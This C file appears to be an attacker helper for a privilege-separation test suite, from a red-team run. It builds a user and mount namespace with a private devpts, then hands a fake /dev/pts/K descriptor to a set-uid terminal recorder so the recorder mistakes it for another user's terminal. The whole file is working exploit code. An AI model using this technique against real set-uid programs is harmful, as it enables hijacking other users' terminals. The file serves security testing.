/* An attacker for the end-to-end tests (tests/privsep.rs), from a red-team
 * run: nspts K CMD... makes a user and mount namespace with a private devpts
 * instance, opens its pts number K, and passes that descriptor back outside
 * the namespace as fds 0-1 of CMD (the set-uid recorder). Its /proc/self/fd/0
 * reads /dev/pts/K and its device number is the host's /dev/pts/K's: a
 * recorder that trusts either takes another user's terminal. */
#define _GNU_SOURCE
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <fcntl.h>
#include <unistd.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <sys/ioctl.h>
static void wr(const char *p, const char *s) { int fd = open(p, O_WRONLY); if (fd < 0 || write(fd, s, strlen(s)) < 0) perror(p); close(fd); }
int main(int argc, char **argv) {
  int k = atoi(argv[1]); int sv[2]; socketpair(AF_UNIX, SOCK_STREAM, 0, sv);
  uid_t u = getuid(); gid_t g = getgid();
  pid_t c = fork();
  if (c == 0) {
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) { perror("unshare"); _exit(1); }
    char m[64]; snprintf(m, 64, "0 %d 1", u); wr("/proc/self/uid_map", m);
    wr("/proc/self/setgroups", "deny"); snprintf(m, 64, "0 %d 1", g); wr("/proc/self/gid_map", m);
    if (mount("devpts", "/dev/pts", "devpts", 0, "newinstance,ptmxmode=0666")) { perror("mount"); _exit(1); }
    int keep[4096]; for (int i = 0; i <= k; i++) keep[i] = open("/dev/pts/ptmx", O_RDWR | O_NOCTTY);
    char p[64]; snprintf(p, 64, "/dev/pts/%d", k); 
    ioctl(keep[k], 0x40045431 /*TIOCSPTLCK*/, &(int){0});
    int s = open(p, O_RDWR | O_NOCTTY); if (s < 0) { perror(p); _exit(1); }
    char cbuf[CMSG_SPACE(sizeof(int))]; struct iovec io = {"x", 1};
    struct msghdr mh = {.msg_iov = &io, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof cbuf};
    struct cmsghdr *cm = CMSG_FIRSTHDR(&mh); cm->cmsg_level = SOL_SOCKET; cm->cmsg_type = SCM_RIGHTS; cm->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(cm), &s, sizeof(int)); sendmsg(sv[1], &mh, 0);
    pause(); _exit(0);
  }
  char b; char cbuf[CMSG_SPACE(sizeof(int))]; struct iovec io = {&b, 1};
  struct msghdr mh = {.msg_iov = &io, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof cbuf};
  if (recvmsg(sv[0], &mh, 0) <= 0) { perror("recvmsg"); return 1; }
  int fd; memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&mh)), sizeof(int));
  char l[256]; char p[64]; snprintf(p, 64, "/proc/self/fd/%d", fd); int n = readlink(p, l, 255); l[n > 0 ? n : 0] = 0;
  fprintf(stderr, "got fd %d -> %s\n", fd, l);
  dup2(fd, 0); dup2(fd, 1); 
  execvp(argv[2], argv + 2); perror("exec"); return 1;
}
